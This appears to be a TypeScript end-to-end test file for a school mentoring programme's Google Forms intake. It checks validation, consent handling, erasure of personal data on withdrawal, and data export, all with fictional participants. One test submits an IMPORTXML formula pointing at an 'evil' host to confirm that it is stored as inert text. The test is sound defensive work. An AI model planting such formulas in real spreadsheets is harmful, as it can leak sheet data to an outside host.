// Questionnaires end to end: the built bundle in the offline workspace, responses submitted through
// the Google Form fakes, the trigger installed by setup doing the work.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { intakeFormIds } from '../../src/cli/intakeSubmit';
import { MAIL_STATES } from '../../src/core/mail/outbox';
import type { LocalWorkspace } from '../../src/local';
import { changeForm, readForm } from '../../src/local/forms/store';
import { changeTriggers } from '../../src/local/script/triggerStore';
import {
  confirmByLink,
  consentAnswers,
  formulas,
  menteeAnswers,
  mentorAnswers,
  rawResponses,
  setUpWorkspace,
  submit,
  table,
} from './workspace';

const MENTEES = 'Наставляемые';
const MENTORS = 'Наставники';

describe('setup of the questionnaires', () => {
  let ws: LocalWorkspace;
  beforeAll(async () => {
    ws = await setUpWorkspace();
  });

  it('creates every form once, with one submit trigger each, and shows the links in Настройки', () => {
    const mine = Object.values(intakeFormIds(ws)).map((f) => f.id);
    const triggers = ws.triggers().filter((t) => t.handler === 'onQuestionnaireSubmit');
    expect(mine).toHaveLength(6);
    expect(ws.formIds()).toEqual(expect.arrayContaining(mine));
    expect(new Set(triggers.map((t) => t.sourceId)).size).toBe(6);
    expect(triggers).toHaveLength(6);
    const links = table(ws, 'Настройки').filter((r) => String(r.Параметр).startsWith('Ссылка: '));
    expect(links.map((r) => r.Параметр)).toContain('Ссылка: Анкета наставляемого');
    expect(links.every((r) => String(r.Значение).startsWith('http'))).toBe(true);
    const mentee = readForm(ws.ctx, intakeFormIds(ws).mentee.id);
    const email = mentee?.items.find((i) => i.title === 'Электронная почта');
    expect(email).toMatchObject({ type: 'TEXT', required: true });
    expect(email?.validation).toBeTruthy();
    expect(mentee?.destination?.id).toBe(ws.boundSpreadsheetId);
  });

  it('changes nothing when run again, and removes a duplicated trigger', () => {
    changeTriggers(ws.ctx, (list) => {
      const first = list.find((t) => t.handler === 'onQuestionnaireSubmit');
      if (first) list.push({ ...first, uid: 'duplicate-trigger' });
    });
    const settingsBefore = table(ws, 'Настройки').length;
    const formsBefore = ws.formIds().length;
    const registryBefore = intakeFormIds(ws);
    ws.run('setupProgramme');
    expect(ws.formIds()).toHaveLength(formsBefore);
    expect(intakeFormIds(ws)).toEqual(registryBefore);
    expect(ws.triggers().filter((t) => t.handler === 'onQuestionnaireSubmit')).toHaveLength(6);
    expect(table(ws, 'Настройки')).toHaveLength(settingsBefore);
  });
});

describe('a response through the form', () => {
  let ws: LocalWorkspace;
  beforeEach(async () => {
    ws = await setUpWorkspace();
  });

  it('lands in Наставляемые normalised, with consent pending and a letter to the child and the parent', async () => {
    const reply = submit(
      ws,
      'mentee',
      menteeAnswers({
        email: '  Petya.Ivanov@EXAMPLE.ru',
        lastName: ' иванов ',
        firstName: 'пётр',
        schoolClass: '7 - б',
      }),
    );
    expect(reply).toMatchObject({ result: 'accepted', participantId: 'НЯ-0001' });
    const [row] = table(ws, MENTEES);
    expect(row).toMatchObject({
      ID: 'НЯ-0001',
      'E-mail': 'petya.ivanov@example.ru',
      Фамилия: 'Иванов',
      Имя: 'Пётр',
      Класс: '7Б',
      Согласие: 'нет',
      'Кто подписывает согласие': 'родитель',
      Статус: 'принята',
    });
    const mail = table(ws, 'Почта');
    expect(mail.map((m) => m.Кому).sort()).toEqual(['mama.ivanova@example.ru', 'petya.ivanov@example.ru']);
    // The form's trigger only queues them: the delivery run a minute later sends them.
    expect(mail.map((m) => m.Состояние)).toEqual([MAIL_STATES.queued, MAIL_STATES.queued]);
    ws.advanceClock('2m');
    const dir = join(ws.dir, 'outbox');
    const letters = await Promise.all(readdirSync(dir).map((f) => simpleParser(readFileSync(join(dir, f)))));
    const toParent = letters.find((m) => JSON.stringify(m.to).includes('mama.ivanova@example.ru'));
    expect(toParent?.text).toContain('согласие');
    // The consent form is a button in the HTML part, the address itself only in the plain text.
    expect(toParent?.html).toMatch(/<a href="https?:\/\/[^"]+"[^>]*>Дать согласие на обработку данных<\/a>/);
    expect(toParent?.html).not.toMatch(/>https?:\/\//);
    expect(toParent?.text).toMatch(/https?:\/\//);
  });

  it('still reads a question the curator reworded in the form editor', () => {
    changeForm(ws.ctx, intakeFormIds(ws).mentee.id, (form) => {
      for (const item of form.items) if (item.title === 'Фамилия') item.title = 'Ваша фамилия';
    });
    expect(submit(ws, 'mentee', menteeAnswers()).result).toBe('accepted');
    expect(table(ws, MENTEES)[0].Фамилия).toBe('Иванов');
  });

  it('updates the row on resubmission and keeps the history in Журнал', () => {
    submit(ws, 'mentee', menteeAnswers());
    const again = submit(ws, 'mentee', menteeAnswers({ schoolClass: '8Б', age: '14' }));
    expect(again.result).toBe('updated');
    const rows = table(ws, MENTEES);
    expect(rows).toHaveLength(1);
    expect(rows[0].Класс).toBe('8Б');
    const journal = table(ws, 'Журнал').map((r) => `${r.Событие} ${r.Подробности}`);
    expect(journal.some((l) => l.includes('обновлена') && l.includes('Класс'))).toBe(true);
    expect(table(ws, 'Почта')).toHaveLength(2);
  });

  it.each([
    [
      'required answer left blank',
      { topics: [] },
      'Не заполнен обязательный вопрос «С чем вам нужна помощь»',
    ],
    ['invalid e-mail', { email: 'petya@@example' }, 'записан с ошибкой'],
    ['mentee under 10', { age: '9', schoolClass: '3А' }, 'не младше 10 лет'],
    ['adult as a student', { age: '34' }, 'ученику не больше 18 лет'],
    ['class that does not exist', { schoolClass: '7Ж' }, 'Класса «7Ж» в школе нет'],
    [
      'student choosing «учитель – учитель»',
      { forms: ['учитель – учитель'] },
      'не подходит категории «ученик»',
    ],
    ['10,000-character answer', { note: 'я'.repeat(10_000) }, 'слишком длинный: 10000 символов'],
    ['emoji in a name', { firstName: 'Петя 🙂' }, 'эмодзи'],
    ['Latin lookalikes in a Cyrillic name', { lastName: 'Иванoв' }, 'латинские буквы o'],
  ])('rejects a %s with a Russian reason and keeps the raw response', (_name, over, reason) => {
    // A curator may untick «Обязательный вопрос» and drop the answer checks in the form editor;
    // intake still holds the line.
    const record = intakeFormIds(ws).mentee;
    changeForm(ws.ctx, record.id, (form) => {
      for (const item of form.items) {
        item.required = false;
        item.validation = null;
      }
    });
    const reply = submit(ws, 'mentee', menteeAnswers(over));
    expect(reply.result).toBe('rejected');
    expect(reply.reasons.join(' ')).toContain(reason);
    expect(table(ws, MENTEES)).toHaveLength(0);
    const [log] = table(ws, 'Приём анкет');
    expect(log).toMatchObject({ Ответ: reply.responseId, Результат: 'отклонена' });
    const journal = table(ws, 'Журнал').find((r) => String(r['Ссылка на ответ']).includes(reply.responseId));
    expect(String(journal?.Подробности)).toContain(reason);
    expect(rawResponses(ws)).toBe(1);
  });

  it('stores an answer that looks like a formula as text', () => {
    const reply = submit(ws, 'mentee', menteeAnswers({ note: '=IMPORTXML("http://evil","//a")' }));
    expect(reply.result).toBe('accepted');
    expect(table(ws, MENTEES)[0].Комментарий).toBe('=IMPORTXML("http://evil","//a")');
    expect(Object.values(formulas(ws, MENTEES))).toEqual([]);
  });

  it('refuses the same person as mentor and mentee of the same form', () => {
    const senior = {
      email: 'k.lebedev@example.ru',
      lastName: 'Лебедев',
      firstName: 'Кирилл',
      age: '16',
      schoolClass: '10А',
    };
    expect(submit(ws, 'mentee', menteeAnswers(senior)).result).toBe('accepted');
    const asMentor = submit(
      ws,
      'mentor',
      mentorAnswers({
        ...senior,
        category: 'ученик',
        forms: ['ученик – ученик'],
        capacity: '1',
        parentName: 'Лебедева Анна',
        parentEmail: 'a.lebedeva@example.ru',
        position: '',
        experienceYears: '',
      }),
    );
    expect(asMentor.result).toBe('rejected');
    expect(asMentor.reasons[0]).toContain('нельзя быть и наставником, и наставляемым');
    expect(table(ws, MENTORS)).toHaveLength(0);
  });

  it('ignores a blank event and a second firing of the same response', () => {
    expect(ws.run('onQuestionnaireSubmit')).toMatchObject({ result: 'blank' });
    changeTriggers(ws.ctx, (list) => {
      const mine = list.filter((t) => t.handler === 'onQuestionnaireSubmit');
      for (const t of mine) list.push({ ...t, uid: `${t.uid}-twice` });
    });
    const reply = submit(ws, 'mentee', menteeAnswers());
    expect(reply.result).toBe('accepted');
    expect(ws.lastRun?.ok).toBe(true);
    expect(table(ws, MENTEES)).toHaveLength(1);
    expect(table(ws, 'Приём анкет').filter((r) => r.Ответ === reply.responseId)).toHaveLength(1);
  });
});

describe('consent', () => {
  let ws: LocalWorkspace;
  beforeEach(async () => {
    ws = await setUpWorkspace();
    submit(ws, 'mentee', menteeAnswers());
  });

  it('takes a parent’s consent for a 13-year-old and refuses the child’s own', () => {
    const own = submit(
      ws,
      'consent',
      consentAnswers({
        signer: 'Я — участник программы (совершеннолетний или старше 14 лет)',
        signerName: 'Иванов Пётр',
      }),
    );
    expect(own.reasons[0]).toContain('родитель');
    expect(table(ws, MENTEES)[0].Согласие).toBe('нет');
    submit(ws, 'consent', consentAnswers());
    expect(table(ws, MENTEES)[0]).toMatchObject({ Согласие: 'получено', Проблема: '' });
    expect(table(ws, 'Согласия')).toHaveLength(2);
  });

  it('counts a consent that arrives before the questionnaire', () => {
    submit(
      ws,
      'consent',
      consentAnswers({
        participantEmail: 'o.smirnova@school.ru',
        participantRole: 'наставник',
        participantName: 'Смирнова Ольга Викторовна',
        signerName: 'Смирнова Ольга Викторовна',
        signer: 'Я — участник программы (совершеннолетний или старше 14 лет)',
      }),
    );
    submit(ws, 'mentor', mentorAnswers());
    expect(table(ws, MENTORS)[0]).toMatchObject({
      Согласие: 'получено',
      'Кто подписывает согласие': 'сам участник',
    });
  });

  it('erases personal data on withdrawal confirmed from the address on file, and logs the date', () => {
    submit(ws, 'consent', consentAnswers());
    const reply = submit(ws, 'consent', consentAnswers({ decision: 'Отзываю ранее данное согласие' }));
    expect(reply.result).toBe('pending');
    expect(table(ws, MENTEES)[0]).toMatchObject({ Фамилия: 'Иванов', Согласие: 'получено' });
    expect(confirmByLink(ws)).toContain('Изменение подтверждено');
    const [row] = table(ws, MENTEES);
    expect(row).toMatchObject({
      ID: 'НЯ-0001',
      Статус: 'данные удалены',
      Фамилия: 'данные удалены',
      Имя: '',
      'E-mail': '',
      'ФИО родителя': '',
      Согласие: 'отозвано',
    });
    const everything = JSON.stringify([
      table(ws, MENTEES),
      table(ws, 'Согласия'),
      table(ws, 'Почта'),
      table(ws, 'Журнал'),
    ]);
    expect(everything).not.toContain('petya.ivanov@example.ru');
    expect(everything).not.toContain('Иванова Мария');
    const line = table(ws, 'Журнал').find((r) => r.Событие === 'Согласие на обработку отозвано');
    expect(String(line?.Подробности)).toMatch(/данные удалены \d\d\.\d\d\.2026/);
  });
});

describe('post-meeting choices', () => {
  it('lists only participants with consent and records the ranked ids', async () => {
    const ws = await setUpWorkspace();
    submit(ws, 'mentee', menteeAnswers());
    submit(ws, 'consent', consentAnswers());
    submit(ws, 'mentor', mentorAnswers());
    submit(ws, 'mentor', mentorAnswers({ email: 'no.consent@school.ru', lastName: 'Безсогласия' }));
    submit(
      ws,
      'consent',
      consentAnswers({
        signer: 'Я — участник программы (совершеннолетний или старше 14 лет)',
        signerName: 'Смирнова Ольга Викторовна',
        participantName: 'Смирнова Ольга Викторовна',
        participantEmail: 'o.smirnova@school.ru',
        participantRole: 'наставник',
      }),
    );
    ws.run('refreshQuestionnaireLists');
    const form = readForm(ws.ctx, intakeFormIds(ws).preferencesMentee.id);
    const choices = form?.items.find((i) => i.title.startsWith('Первый выбор'))?.choices ?? [];
    expect(choices).toEqual(['Смирнова Ольга, учитель математики (НС-0001)']);

    const reply = submit(ws, 'preferencesMentee', { email: 'petya.ivanov@example.ru', choice1: choices[0] });
    expect(reply.result).toBe('accepted');
    expect(table(ws, 'Выбор после встречи')[0]).toMatchObject({
      'ID участника': 'НЯ-0001',
      'Выбор 1': 'НС-0001',
    });
    const stranger = submit(ws, 'preferencesMentee', { email: 'nobody@example.ru', choice1: choices[0] });
    expect(stranger.reasons[0]).toContain('сначала заполните анкету');
  });
});

describe('what the school holds about a person (ст. 14)', () => {
  it('collects the base row, consents and letters of one participant and logs the export', async () => {
    const ws = await setUpWorkspace();
    submit(ws, 'mentee', menteeAnswers());
    submit(ws, 'mentee', menteeAnswers({ email: 'other@example.ru', lastName: 'Другой' }));
    submit(ws, 'consent', consentAnswers());
    const text = String(ws.run('exportParticipantData', 'НЯ-0001'));
    expect(text).toContain('petya.ivanov@example.ru');
    expect(text).toContain('Класс: 7Б');
    expect(text).toContain('Согласия:');
    expect(text).toContain('mama.ivanova@example.ru');
    expect(text).not.toContain('other@example.ru');
    expect(ws.lastRun?.ui.some((e) => e.kind === 'dialog')).toBe(true);
    expect(table(ws, 'Журнал').some((r) => String(r.Событие).startsWith('Выгрузка сведений'))).toBe(true);
  });
});

describe('withdrawal after pairs were proposed', () => {
  it('shows the participant in Пары as «данные удалены»', async () => {
    const ws = await setUpWorkspace();
    submit(ws, 'mentee', menteeAnswers({ forms: ['учитель – ученик'], topics: ['подготовка к олимпиаде'] }));
    submit(ws, 'consent', consentAnswers());
    submit(ws, 'mentor', mentorAnswers());
    submit(
      ws,
      'consent',
      consentAnswers({
        signer: 'Я — участник программы (совершеннолетний или старше 14 лет)',
        signerName: 'Смирнова Ольга Викторовна',
        participantName: 'Смирнова Ольга Викторовна',
        participantEmail: 'o.smirnova@school.ru',
        participantRole: 'наставник',
      }),
    );
    ws.run('proposePairs');
    expect(table(ws, 'Пары')[0]).toMatchObject({
      Наставляемый: 'Иванов Пётр',
      'Код наставляемого': 'НЯ-0001',
    });
    submit(ws, 'consent', consentAnswers({ decision: 'Отзываю ранее данное согласие' }));
    expect(table(ws, 'Пары')[0]).toMatchObject({ Наставляемый: 'Иванов Пётр' });
    expect(confirmByLink(ws)).toContain('Изменение подтверждено');
    const [pair] = table(ws, 'Пары');
    expect(pair).toMatchObject({ Наставляемый: 'данные удалены', Наставник: 'Смирнова Ольга Викторовна' });
    expect(String(pair.Проблема)).toContain('отозвал согласие');
  });
});

describe('withdrawal by written statement', () => {
  it('erases a participant named by id, once', async () => {
    const ws = await setUpWorkspace();
    submit(ws, 'mentor', mentorAnswers());
    expect(ws.run('withdrawConsent', 'НС-0001')).toContain('персональные данные удалены');
    expect(table(ws, 'Наставники')[0]).toMatchObject({
      Статус: 'данные удалены',
      'E-mail': '',
      Фамилия: 'данные удалены',
    });
    expect(JSON.stringify(table(ws, 'Почта'))).not.toContain('o.smirnova@school.ru');
    expect(ws.run('withdrawConsent', 'НС-0001')).toContain('уже удалены');
  });
});
